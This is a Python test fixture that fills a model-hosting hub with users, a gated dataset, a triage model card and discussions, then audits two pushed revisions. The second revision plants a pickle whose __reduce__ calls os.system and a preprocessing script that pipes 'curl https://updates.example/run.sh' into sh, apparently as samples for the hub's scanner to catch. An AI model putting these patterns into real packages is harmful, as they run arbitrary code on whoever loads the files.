"""A hub with people and repositories in it, pushed and audited for real, as the tests of pages visit it."""

from __future__ import annotations

import json
import pickle

import numpy as np
from safetensors.numpy import save as save_tensors

from hallmarked.hub.access import Role
from hallmarked.hub.account.account import create_account, set_role
from hallmarked.hub.account.session import begin_session
from hallmarked.hub.blob.possession import add_blob
from hallmarked.hub.change.commit import Change, Delete, Message, Put, PutLarge, commit
from hallmarked.hub.change.creation import create
from hallmarked.hub.community.discussion import Opening, add_comment, change_status, open_discussion
from hallmarked.hub.community.pull import commit_to, open_pull
from hallmarked.hub.gate.request import ask_access
from hallmarked.hub.job.audit import audit_revision, task_of
from hallmarked.hub.repository.repository import Repository, change_settings, find_repository
from hallmarked.hub.repository.revision import Revision
from tests.hubs import RunningHub

MODEL = "acme/triage-notes"
CARD = """\
---
license: apache-2.0
language: [es, en]
library_name: transformers
pipeline_tag: text-classification
base_model: google-bert/bert-base-multilingual-cased
tags: [health, triage]
co2_eq_emissions: {emissions: 38000}
model-index:
- name: triage-notes
  results:
  - task: {type: text-classification}
    dataset: {name: Emergency notes 2025, type: acme/emergency-notes}
    metrics: [{type: recall, value: 0.968, name: Recall of critical patients}]
---
# Triage notes

Sorts emergency-room notes into five urgency levels to help nurses decide who is seen first. The model has 1,312
parameters.

## Intended use

It helps nurses. It is **not** meant to decide alone, and has not been tested on notes about children.

| Group | People | Found | Interval |
|---|--:|--:|---|
| 18 to 39 | 612 | 97.4 % | 95.8–98.4 |
| 40 to 64 | 701 | 97.1 % | 95.6–98.1 |
| 80 and over | 204 | 95.1 % | 91.2–97.3 |

## Limitations

Misses about one critical patient in thirty. See [how it was trained](docs/training.md).

![Recall by age group](docs/recall.png) ![badge](https://badges.example/recall.svg)

## How to use

```python
from transformers import pipeline
pipeline("text-classification", "acme/triage-notes")("dolor torácico desde hace una hora")
```
"""


ANSWERS = {
    "Why do you need it?": "To study triage.",
    "Country": "ES",
    "When": "2026-12-01",
    "For what": "Research",
    "I will not share it": "true",
}
GATED = """\
---
license: cc-by-4.0
language: es
extra_gated_prompt: These notes are **sensitive**.
extra_gated_fields:
  Why do you need it?: text
  Country: country
  When: date_picker
  For what: {type: select, options: [Research, {label: Something else, value: other}]}
  I will not share it: checkbox
---
# Emergency notes
"""


class Runs:
    def __reduce__(self) -> tuple[object, tuple[str, ...]]:
        return __import__("os").system, ("true",)


def first_files() -> dict[str, bytes]:
    weights = {
        "embeddings.weight": np.zeros((32, 32), np.float32),
        "classifier.weight": np.zeros((9, 32), np.float32),
    }
    return {
        "README.md": CARD.encode(),
        "config.json": json.dumps({"model_type": "bert", "architectures": ["BertForSequenceClassification"]}).encode(),
        "docs/training.md": b"# Training\n\nTrained on notes of 2024 and 2025.\n",
        "docs/recall.png": bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
            "1f15c4890000000d49444154789c6360f8ffff3f0005fe02fea735810000000049454e44ae426082"
        ),
        "model.safetensors": save_tensors(weights),
    }


def second_files() -> dict[str, bytes]:
    return {
        "scaler.pkl": pickle.dumps(Runs()),
        "preprocess.py": b'"""Cleans notes."""\n\nimport subprocess\n\n\ndef clean(note):\n'
        b'    subprocess.run(["sh", "-c", "curl https://updates.example/run.sh | sh"])\n    return note.strip()\n',
    }


def put(running: RunningHub, name: str, data: bytes) -> Change:
    """Make a change that adds a file, large ones through the blob store."""
    if not name.endswith((".safetensors", ".pkl")):
        return Put(name, data)
    with running.hub.blobs.receive() as incoming:
        incoming.write(data)
        stored = incoming.finish()
    with running.hub.database.write() as db:
        add_blob(db, stored.sha256, stored.size, passive=name.endswith(".safetensors"), account_id=None)
    return PutLarge(name, stored.sha256)


def push(
    running: RunningHub, repo: Repository, files: dict[str, bytes], title: str, gone: tuple[str, ...] = ()
) -> Revision:
    """Commit files as the owner of a repository."""
    changes = [put(running, name, data) for name, data in files.items()]
    actor = running.actor("ada")
    for change in changes:
        if isinstance(change, PutLarge):
            with running.hub.database.write() as db:
                add_blob(db, change.sha256, 0, passive=False, account_id=actor.account_id)
    with running.hub.database.write() as db:
        return commit(db, repo, actor, [*changes, *map(Delete, gone)], Message(title))


def people(running: RunningHub) -> tuple[Repository, Repository]:
    """Make people, an organisation and its repositories: a model, and a data set that is given on request."""
    for name in ("ada", "ben"):
        running.person(name)
    with running.hub.database.write() as db:
        acme = create_account(db, "acme", kind="organisation", full_name="ACME Health")
        set_role(db, acme.id, running.actor("ada").account_id or "", Role.OWNER)
        model = create(db, running.actor("ada"), "model", "triage-notes", owner="acme")
        data = create(db, running.actor("ada"), "dataset", "emergency-notes", owner="acme")
    push(running, data, {"README.md": GATED.encode()}, "Add a card")
    with running.hub.database.write() as db:
        change_settings(db, data.id, gate="manual")
        return model, find_repository(db, "dataset", data.name)


def sign_in(running: RunningHub, name: str) -> str:
    """Return the cookie of a browser in which somebody is signed in."""
    with running.hub.database.write() as db:
        return begin_session(db, running.actor(name).account_id or "", "a test")


def fill(running: RunningHub) -> dict[str, Revision]:
    """Make what the pages show; return the revisions of the model."""
    running.person("root", administrator=True)
    repo, data = people(running)
    with running.hub.database.write() as db:
        create(db, running.actor("ada"), "model", "hidden", visibility="private")
        create(db, running.actor("ada"), "system", "triage-desk", owner="acme")
        ask_access(db, running.actor("ben"), data, ANSWERS)
    first, second = first_files(), second_files()
    made = {"first": push(running, repo, first, "Add the model and its card")}
    audit_revision(running.hub, task_of(repo.id, made["first"].oid))
    made["second"] = push(running, repo, second, "Add the scaler and the preprocessing")
    audit_revision(running.hub, task_of(repo.id, made["second"].oid))
    talk(running, repo)
    return made


def talk(running: RunningHub, repo: Repository) -> None:
    """Open a discussion and a pull request."""
    ada, ben = running.actor("ada"), running.actor("ben")
    with running.hub.database.write() as db:
        asked = open_discussion(db, repo, ben, Opening("Does it work for children?", "The card says *not tested*."))
        add_comment(db, repo, asked.number, ada, "It was never tested on notes about children. See the card.")
        change_status(db, repo, asked.number, ada, "closed")
        pull = open_pull(db, repo, ben, Message("Mend a word"), "refs/heads/main")
        commit_to(db, repo, ben, [Put("docs/training.md", b"# Training\n\nTrained on notes of 2024.\n")],
                  Message("Mend a word"), branch=pull.branch)  # fmt: skip
